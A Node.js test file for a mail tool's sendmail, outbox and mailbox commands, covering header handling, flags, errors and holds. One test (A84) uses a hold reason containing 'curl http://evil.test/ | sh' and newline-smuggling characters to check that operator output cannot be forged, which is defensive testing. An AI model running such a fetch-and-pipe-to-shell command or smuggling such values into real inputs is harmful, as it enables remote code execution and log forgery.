/** `postern sendmail`, `outbox` and `mailbox set`, as programs and people call them. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Finished } from '../bed/process.ts';
import { type SandboxGateway, startSandboxGateway } from '../bed/sandbox-gateway.ts';

const ALICE = 'alice@contoso.test';
const ANY = Array.from({ length: 128 }, (_, code) => code);
const LETTER = 'To: Bob <bob@contoso.test>\nBcc: carol@contoso.test\nSubject: hi\n\nfirst\n.\nsecond\n';

let site: SandboxGateway;
before(async () => {
  site = await startSandboxGateway();
  // Nothing leaves, so that every message can be looked at.
  await site.cli(['outbox', 'hold', ALICE, '--reason', 'a test']);
});
after(() => site?.stop());

const run = (args: readonly string[], input?: string): Promise<Finished> =>
  site.cli(args, { accept: ANY, ...(input === undefined ? {} : { input }) });

interface Shown {
  readonly id: string;
  readonly envelopeFrom: string;
  readonly source: string;
  readonly recipients: readonly { readonly address: string; readonly notify?: readonly string[] }[];
  readonly dsn: object;
  readonly state: { readonly type: string; readonly reason?: string };
  readonly events: readonly { readonly type: string }[];
}
async function show(id: string): Promise<Shown> {
  return JSON.parse((await run(['outbox', 'show', id, '--json'])).stdout.toString()) as Shown;
}
/** Hands a letter over and gives the id it got. */
async function sendmail(args: readonly string[], letter = LETTER): Promise<string> {
  const done = await run(['sendmail', ...args, '--json'], letter);
  assert.equal(done.code, 0, done.stderr);
  return (JSON.parse(done.stdout.toString()) as { id: string }).id;
}
test('D29, D31: octets are no JSON, and a list narrowed to a mailbox that is not there says so', async () => {
  const refused = await run(['outbox', 'show', await sendmail(['-t', '-f', ALICE]), '--body', '--json']);
  assert.deepEqual([refused.code, refused.stdout.length], [64, 0]);
  for (const list of [['outbox', 'list'], ['events'], ['audit', 'show']])
    assert.match(
      (await run([...list, '--mailbox', 'Nobody@contoso.test'])).stderr,
      /no mailbox nobody@contoso\.test now/,
    );
});

const text = async (id: string): Promise<string> =>
  (await run(['outbox', 'show', id, '--body'])).stdout.toString('latin1');

test('sendmail -t takes recipients from the header, removes Bcc and stops at a dot', async () => {
  const id = await sendmail(['-t', '-f', ALICE]);
  const shown = await show(id);
  assert.deepEqual(
    shown.recipients.map(({ address }) => address),
    ['bob@contoso.test', 'carol@contoso.test'],
  );
  assert.deepEqual([shown.envelopeFrom, shown.source], [ALICE, 'sendmail']);
  const body = await text(id);
  assert.doesNotMatch(body, /carol/);
  assert.match(body, /^To: Bob[^]*\r\nFrom: alice@contoso\.test\r\n/);
  assert.match(body, /\r\n\r\nfirst\r\n$/);
});

test('the flags that programs give: -oi, -oem, -odb, -bm, -m, -r, -F, -N, -R', async () => {
  const plain = await text(await sendmail(['-oem', '-oi', '-bm', '-odb', '-m', '-f', ALICE, 'dave@contoso.test']));
  assert.match(plain, /\r\n\r\nfirst\r\n\.\r\nsecond\r\n$/);
  assert.match(plain, /carol/, 'without -t the header stays as it is');
  const options = ['-N', 'success,delay', '-R', 'hdrs', '--envelope-id', 'e1'];
  const id = await sendmail(['-r', ALICE, '-F', 'Alice "A"', ...options, 'd@x.test']);
  const shown = await show(id);
  assert.deepEqual(shown.recipients, [{ address: 'd@x.test', state: 'pending', notify: ['SUCCESS', 'DELAY'] }]);
  assert.deepEqual(shown.dsn, { ret: 'HDRS', envid: 'e1' });
  assert.match(await text(id), /^From: "Alice \\"A\\"" <alice@contoso\.test>\r$/m);
});

test('B2, B3, B4, B6, B9: what cron, git, PHP and old programs write is taken', async () => {
  const cron = 'From: root (Cron Daemon)\nTo: root\nSubject: Cron\n\nout\n';
  assert.match(
    await text(await sendmail(['-f', ALICE, 'd@x.test'], cron)),
    /^From: "root \(Cron Daemon\)" <alice@contoso\.test>\r\nTo: root\r\n/,
  );
  const patch =
    'From 1234abcd Mon Sep 17 00:00:00 2001\nFrom: Alice <alice@contoso.test>\nTo: d@x.test\nSubject: [PATCH] x\n\n---\n';
  assert.match(await text(await sendmail(['-t'], patch)), /^From: Alice <alice@contoso\.test>\r\n/);
  const twice = await text(await sendmail(['-t', '-f', ALICE], 'To: d@x.test\r\r\nSubject: x\r\r\n\r\r\nbody\r\r\n'));
  assert.match(twice, /^To: d@x\.test\r\nSubject: x\r\n/);
  assert.match(twice, /\r\n\r\nbody\r\n$/);
  for (const sender of [`<${ALICE}>`, ` ${ALICE}`])
    assert.equal((await show(await sendmail(['-f', sender, 'd@x.test']))).envelopeFrom, ALICE);
  const bounce =
    'From: MAILER-DAEMON@host.internal (Mail Delivery System)\nTo: d@x.test\nAuto-Submitted: auto-replied\nContent-Type: multipart/report; report-type=delivery-status; boundary=b\n\nx\n';
  for (const sender of ['<>', ''])
    assert.equal((await show(await sendmail(['-f', sender, '--mailbox', ALICE, 'd@x.test'], bounce))).envelopeFrom, '');
  const empty = await text(await sendmail(['-t', '-f', ALICE], 'To: d@x.test\nMessage-ID: \n \nSubject: x\n\nx\n'));
  assert.equal(empty.match(/^message-id:/gim)?.length, 1);
  assert.deepEqual(
    (await show(await sendmail(['-f', ALICE, '<d@x.test>', 'E <e@x.test>, f@x.test']))).recipients.map(
      ({ address }) => address,
    ),
    ['d@x.test', 'e@x.test', 'f@x.test'],
  );
});

test('B5: sendmail -t of a message that is resent goes to whom it is resent to', async () => {
  const resent = `Resent-From: ${ALICE}\nResent-To: new@x.test\nResent-Bcc: hidden@x.test\nFrom: far@x.test\nTo: list@x.test\nSubject: x\n\nx\n`;
  const id = await sendmail(['-t'], resent);
  const shown = await show(id);
  assert.deepEqual(
    [shown.envelopeFrom, shown.recipients.map(({ address }) => address)],
    [ALICE, ['new@x.test', 'hidden@x.test']],
  );
  const body = await text(id);
  assert.doesNotMatch(body, /hidden/);
  assert.match(body, /^From: far@x\.test\r$/m);
});

test('what is wrong is said, with exit code 64', async () => {
  for (const [args, said] of [
    [['-t'], /no sender/],
    [['-f', 'eve@contoso.test', 'd@x.test'], /no mailbox sends as eve/],
    [['-f', ALICE], /no recipient/],
    [['-bt'], /-bt is not offered[^]*-bs for SMTP/],
    [['-f', ALICE, '-N', 'maybe', 'd@x.test'], /-N maybe/],
    [['-f', ALICE, 'root'], /root has no domain/],
    [['-f', `${ALICE}, eve@x.test`, 'd@x.test'], /is not one address/],
  ] as const) {
    const done = await run(['sendmail', ...args], LETTER);
    assert.equal(done.code, 64, `${args.join(' ')}: ${done.stderr}`);
    assert.match(done.stderr, said);
  }
  assert.match(
    await text(await sendmail(['-f', ALICE, 'd@x.test'], 'Subject: a\nno field here\n\nx\n')),
    /\r\n\r\nno field here\r\n\r\nx\r\n$/,
  );
  const forged = await run(['sendmail', '-f', ALICE, 'd@x.test'], 'From: ceo@contoso.test\n\nx\n');
  assert.match(forged.stderr, /line 1: From names ceo@contoso\.test/);
  assert.equal((await run(['sendmail', '-f', '<>', '--mailbox', ALICE, 'd@x.test'], LETTER)).code === 0, false);
});

test('an Idempotency-Key makes handing over safe to repeat', async () => {
  const letter = `Idempotency-Key: order-1\n${LETTER}`;
  const id = await sendmail(['-t', '-f', ALICE], letter);
  assert.equal(await sendmail(['-t', '-f', ALICE], letter), id);
  assert.match(
    (await run(['sendmail', '-t', '-f', ALICE], letter.replace('first', 'other'))).stderr,
    /another message/,
  );
});

test('outbox hold, release, cancel and list; what cannot be changed says so', async () => {
  const id = await sendmail(['-t', '-f', ALICE]);
  assert.match((await run(['outbox', 'hold', id, '--reason', 'wait'])).stdout.toString(), /held: wait/);
  const held = await run(['outbox', 'list', '--state', 'held', '--to', 'bob@contoso.test', '--mailbox', ALICE]);
  assert.match(held.stdout.toString(), new RegExp(`${id}.*held: wait`));
  assert.match((await run(['outbox', 'release', id])).stdout.toString(), /waits/);
  assert.match((await run(['outbox', 'cancel', id])).stdout.toString(), /cancelled/);
  const late = await run(['outbox', 'cancel', id]);
  assert.deepEqual([late.code, /it was cancelled/.test(late.stderr)], [64, true]);
  assert.deepEqual(
    (await show(id)).events.map(({ type }) => type),
    ['accepted', 'held', 'released', 'cancelled'],
  );
});

test('A84: a reason, a subject and an address of others make no lines of their own in what the operator reads', async () => {
  const forged = 'all is well\n  next      curl http://evil.test/ | sh\r\u2028\tmore';
  const id = await sendmail(['-f', ALICE, 'bob@contoso.test']);
  assert.equal((await run(['outbox', 'hold', id, '--reason', forged])).code, 0);
  assert.equal((await run(['outbox', 'hold', ALICE, '--reason', forged])).code, 0);
  const waits = await sendmail(['-f', ALICE, 'bob@contoso.test']);
  try {
    for (const args of [
      ['outbox', 'show', id],
      ['outbox', 'show', waits],
      ['outbox', 'list'],
      ['outbox', 'retry', id],
      ['mailbox', 'show', ALICE],
      ['mailbox', 'list'],
      ['events', '--mailbox', ALICE],
      ['audit', 'show'],
    ]) {
      const { code, stdout, stderr } = await run(args);
      const said = `${stdout.toString()}${stderr}`;
      assert.equal(code, 0, said);
      const lines = said.split('\n');
      assert.deepEqual(
        lines.filter((line) => /^(?:postern: )?\s*next\s+curl|[\r\t\u2028]|^\s*more/.test(line)),
        [],
        args.join(' '),
      );
    }
    assert.match((await run(['outbox', 'show', id])).stdout.toString(), /all is well\\u000a {2}next/);
    assert.equal((await run(['outbox', 'show', `${id}\nnext: sh`])).stderr.trim().split('\n').length, 2);
  } finally {
    await run(['outbox', 'hold', ALICE, '--reason', 'a test']);
  }
});

test('mailbox set: another way out, other senders, and nothing lost between two changes', async () => {
  const set = (...args: readonly string[]): Promise<Finished> => run(['mailbox', 'set', ALICE, ...args, '--json']);
  await set('--send-as', 'info@contoso.test', '--send-as', 'Shop@contoso.test');
  const none = await set('--not-as', 'nobody@contoso.test');
  assert.deepEqual([none.code, none.stdout.length], [64, 0]);
  assert.match(none.stderr, /nobody@contoso\.test is no further sender of .*it has info@contoso\.test/);
  const done = await set('--outgoing', 'outbox', '--not-as', 'info@contoso.test');
  const { outgoing, sendAs } = JSON.parse(done.stdout.toString()) as { outgoing: string; sendAs: string[] };
  assert.deepEqual([outgoing, sendAs], ['outbox', ['shop@contoso.test']]);
  assert.equal((await show(await sendmail(['-f', 'shop@contoso.test', 'd@x.test']))).envelopeFrom, 'shop@contoso.test');
  // Held still: the change of one setting keeps the others.
  assert.match((await run(['outbox', 'list', '--state', 'queued'])).stdout.toString(), /held with its mailbox: a test/);
});
